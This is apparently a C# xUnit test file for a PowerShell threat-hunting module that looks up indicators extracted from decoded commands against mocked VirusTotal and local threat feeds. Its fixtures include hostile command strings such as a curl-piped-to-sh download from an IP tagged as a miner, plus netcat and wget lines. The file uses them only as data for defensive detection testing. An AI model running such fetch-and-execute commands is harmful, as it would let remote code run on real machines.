using System;
using System.Collections;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using B64Hunt.Iocs;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.Intel
{
    /// <summary>Find-B64Ioc -Expand | Where-Object ... | Invoke-B64TiLookup: only the picked indicators are looked up, and the verdicts reach the events.</summary>
    [Collection(TiProcessEnvironmentCollection.Name)]
    public sealed class TiIocInputTests : IDisposable
    {
        private readonly TiCmdletEnvironment _env = new TiCmdletEnvironment();

        public void Dispose() => _env.Dispose();

        private static CommandEvent Event(string computer, string command, params (string, string)[] iocs)
        {
            var e = Events.With(iocs);
            e.Computer = computer;
            e.DecodedCommand = command;
            e.TimeGenerated = new DateTime(2026, 11, 30, 10, 0, 0, DateTimeKind.Utc);
            return e;
        }

        /// <summary>The records Find-B64Ioc -Expand emits: copies of the event's Iocs with Event set.</summary>
        private static IEnumerable<Ioc> Expand(params CommandEvent[] events) =>
            events.SelectMany(e => e.Iocs.Select(i => IocExtractor.WithEvent(i, e)));

        private static TiTestServer VirusTotal() => new TiTestServer((r, n) =>
            TestReply.Json(VirusTotalAnswers.Report("ip_address", "x", r.Path.Contains("45.9.148.35") ? 7 : 0, 0)));

        private static Hashtable Key => new Hashtable { ["VirusTotal"] = "k" };

        [Fact]
        public void OnlyThePickedIocsAreLookedUpAndTheVerdictsGoToTheirEvents()
        {
            using var vt = VirusTotal();
            var miner = Event("web01", "curl http://45.9.148.35/x | sh", ("ipv4", "45.9.148.35"), ("dns", "pool.example.net"));
            var other = Event("web02", "wget http://203.0.113.9/", ("ipv4", "93.184.216.34"), ("dns", "cdn.example.org"));
            var picked = Expand(miner, other).Where(i => i.Type == "ipv4").ToArray();

            using var ps = TiCmdletEnvironment.Shell();
            var output = ps.AddCommand("Invoke-B64TiLookup").AddParameter("InputObject", picked).AddParameter("Provider", "VirusTotal")
                .AddParameter("ApiKey", Key).AddParameter("Endpoint", new Hashtable { ["VirusTotal"] = vt.BaseUrl }).AddParameter("NoCache", true)
                .Invoke();

            Assert.False(ps.HadErrors, string.Join("; ", ps.Streams.Error));
            // The events they came from, once each, in order: the pipeline goes on to Measure-B64Score.
            Assert.Equal(new[] { miner, other }, output.Select(o => o.BaseObject));
            Assert.Equal(2, vt.Count);
            Assert.DoesNotContain(vt.Requests, r => r.Path.Contains("domains"));
            var verdict = Assert.Single(miner.TiResults);
            Assert.Equal(("45.9.148.35", TiStatus.Ok, TiSeverity.High), (verdict.Ioc, verdict.Status, verdict.Severity));
            Assert.Equal(TiSeverity.Information, Assert.Single(other.TiResults).Severity);
        }

        [Fact]
        public void ThePickedVerdictsCountInTheScore()
        {
            using var vt = VirusTotal();
            var miner = Event("web01", "curl http://45.9.148.35/x | sh", ("ipv4", "45.9.148.35"));
            var benign = Event("web02", "uptime", ("dns", "cdn.example.org"));

            using var ps = TiCmdletEnvironment.Shell();
            ps.AddCommand("Invoke-B64TiLookup").AddParameter("InputObject", Expand(miner).ToArray()).AddParameter("Provider", "VirusTotal")
              .AddParameter("ApiKey", Key).AddParameter("Endpoint", new Hashtable { ["VirusTotal"] = vt.BaseUrl }).AddParameter("NoCache", true);
            ps.Invoke();
            Assert.False(ps.HadErrors);

            // Scoring the hunt's own events (not the lookup's output) sees the verdict: the objects are the same.
            using var score = TiCmdletEnvironment.Shell();
            var scores = score.AddCommand("Measure-B64Score").AddParameter("InputObject", new[] { miner, benign }).Invoke()
                .Select(o => (CommandScore)o.BaseObject).ToList();
            Assert.Equal(3, scores.Single(s => s.DecodedCommand == miner.DecodedCommand).SevScore);
            Assert.Equal(0, scores.Single(s => s.DecodedCommand == benign.DecodedCommand).SevScore);
        }

        [Fact]
        public void AWholeEventStillHasEveryIndicatorLookedUp()
        {
            // The counterpart: an event (not its Iocs) on the pipeline means all of its indicators, as before.
            var feed = Path.Combine(_env.Dir, "feed.txt");
            File.WriteAllLines(feed, new[] { "45.9.148.35", "pool.example.net" });
            var miner = Event("web01", "curl http://45.9.148.35/x | sh", ("ipv4", "45.9.148.35"), ("dns", "pool.example.net"));
            var pickedOnly = Event("web02", "nc 45.9.148.35", ("ipv4", "45.9.148.35"), ("dns", "pool.example.net"));

            using var ps = TiCmdletEnvironment.Shell();
            var input = new object[] { miner, Expand(pickedOnly).First(i => i.Type == "dns"), Expand(miner).First() };
            var output = ps.AddCommand("Invoke-B64TiLookup").AddParameter("InputObject", input).AddParameter("LocalFeed", feed).Invoke();

            Assert.False(ps.HadErrors);
            Assert.Equal(new[] { miner, pickedOnly }, output.Select(o => o.BaseObject));
            Assert.Equal(new[] { "45.9.148.35", "pool.example.net" }, miner.TiResults.Select(r => r.Ioc));
            Assert.Equal("pool.example.net", Assert.Single(pickedOnly.TiResults).Ioc);
        }

        [Fact]
        public void ALookupRepeatedOnTheSameEventReplacesItsAnswerInsteadOfCountingTwice()
        {
            var feed = Path.Combine(_env.Dir, "feed.txt");
            File.WriteAllLines(feed, new[] { "45.9.148.35" });
            var miner = Event("web01", "curl http://45.9.148.35/x | sh", ("ipv4", "45.9.148.35"));
            for (var run = 0; run < 2; run++)
            {
                using var ps = TiCmdletEnvironment.Shell();
                ps.AddCommand("Invoke-B64TiLookup").AddParameter("InputObject", Expand(miner).ToArray()).AddParameter("LocalFeed", feed).Invoke();
            }
            Assert.Single(miner.TiResults);
        }

        [Fact]
        public void AnIocWithoutAnEventBecomesAnEventCarryingItsVerdict()
        {
            var feed = Path.Combine(_env.Dir, "feed.txt");
            File.WriteAllLines(feed, new[] { "45.9.148.35" });
            var typed = new Ioc { Type = "ipv4", Value = "45.9.148.35", Normalized = "45.9.148.35" };

            using var ps = TiCmdletEnvironment.Shell();
            var output = ps.AddCommand("Invoke-B64TiLookup").AddParameter("InputObject", new object[] { typed }).AddParameter("LocalFeed", feed).Invoke();

            var e = (CommandEvent)Assert.Single(output).BaseObject;
            Assert.Same(typed, Assert.Single(e.Iocs));
            Assert.Equal(TiSeverity.High, Assert.Single(e.TiResults).Severity);
        }

        [Fact]
        public void OtherObjectsAreStillRefusedWithAnError()
        {
            using var ps = TiCmdletEnvironment.Shell();
            ps.AddCommand("Invoke-B64TiLookup").AddParameter("InputObject", new object[] { 42 }).AddParameter("LocalFeed", Path.Combine(_env.Dir, "none.txt")).Invoke();
            Assert.Contains(ps.Streams.Error, e => e.FullyQualifiedErrorId.StartsWith("UnsupportedInputObject") && Equals(e.TargetObject, 42));
        }
    }
}
